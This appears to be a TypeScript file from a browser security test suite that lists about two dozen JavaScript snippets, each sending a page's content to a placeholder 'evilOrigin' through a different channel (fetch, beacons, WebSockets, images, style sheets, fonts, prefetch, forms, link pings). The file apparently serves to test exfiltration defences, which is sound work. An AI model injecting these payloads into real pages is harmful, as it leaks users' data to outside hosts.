import type { Attack } from './Attack';

const appendElement = 'document.body.appendChild(document.createElement';

const linkAttack =
  (rel: string, setup = ''): Attack =>
  ({ evilOrigin }) =>
    `const l = document.createElement('link'); l.rel = '${rel}'; ${setup} l.href = '${evilOrigin}/${rel}';
     document.head.append(l); await settled(l); l.remove()`;

const mediaAttack =
  (name: string): Attack =>
  ({ evilOrigin }) =>
    `const m = ${appendElement}('${name}')); m.src = '${evilOrigin}/${name}?' + document.title; await settled(m); m.remove()`;

/** Attacks that send the page's content to another origin without leaving the page. */
export const leakAttacks: Readonly<Record<string, Attack>> = {
  fetch: ({ evilOrigin }) =>
    `await fetch('${evilOrigin}/fetch', { mode: 'no-cors', method: 'POST', body: document.title })`,
  'a fetch with keepalive': ({ evilOrigin }) =>
    `await fetch('${evilOrigin}/keepalive', { mode: 'no-cors', keepalive: true })`,
  XMLHttpRequest: ({ evilOrigin }) =>
    `const x = new XMLHttpRequest(); x.open('GET', '${evilOrigin}/xhr'); x.send(); await settled(x)`,
  'a beacon': ({ evilOrigin }) =>
    `navigator.sendBeacon('${evilOrigin}/beacon', document.title); await pause()`,
  'a socket': ({ evilOrigin }) =>
    `const w = new WebSocket('${evilOrigin.replace('http', 'ws')}/socket'); await settled(w)`,
  'an event stream': ({ evilOrigin }) =>
    `const s = new EventSource('${evilOrigin}/stream'); await settled(s); s.close()`,
  'an image': mediaAttack('img'),
  'a video': mediaAttack('video'),
  'an audio file': mediaAttack('audio'),
  'a frame': mediaAttack('iframe'),
  'an image outside the document': ({ evilOrigin }) =>
    `const i = new Image(); i.src = '${evilOrigin}/image'; await settled(i)`,
  'a background image': ({ evilOrigin }) =>
    `const d = ${appendElement}('div')); d.style.backgroundImage = 'url(${evilOrigin}/background)'; d.textContent = '.';
     d.getBoundingClientRect(); await pause(); d.remove()`,
  'a constructed style sheet': ({ evilOrigin }) =>
    `const s = new CSSStyleSheet(); s.replaceSync('body { cursor: url(${evilOrigin}/cursor), auto }');
     document.adoptedStyleSheets.push(s); await pause(); document.adoptedStyleSheets.pop()`,
  'a style element': ({ evilOrigin }) =>
    `const s = document.createElement('style'); s.textContent = '@import "${evilOrigin}/import";'; document.head.append(s);
     await pause(); s.remove()`,
  'a font': ({ evilOrigin }) => `await new FontFace('evil', 'url(${evilOrigin}/font)').load()`,
  'a foreign style sheet': linkAttack('stylesheet'),
  'a prefetch': linkAttack('prefetch'),
  'a preload': linkAttack('preload', "l.as = 'image';"),
  'a module preload': linkAttack('modulepreload'),
  'a speculation rule': ({ evilOrigin }) =>
    `const s = document.createElement('script'); s.type = 'speculationrules';
     s.text = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${evilOrigin}/speculation'] }] }); document.body.append(s);
     await pause()`,
  'a form that targets a frame': ({ evilOrigin }) =>
    `const f = ${appendElement}('form')); f.method = 'post'; f.action = '${evilOrigin}/form'; f.target = 'sink';
     const i = ${appendElement}('iframe')); i.name = 'sink'; f.submit(); await pause()`,
  'the ping attribute of a link': ({ evilOrigin }) =>
    `const a = ${appendElement}('a')); a.href = '/#/'; a.ping = '${evilOrigin}/ping'; a.click(); await pause(); a.remove()`,
};
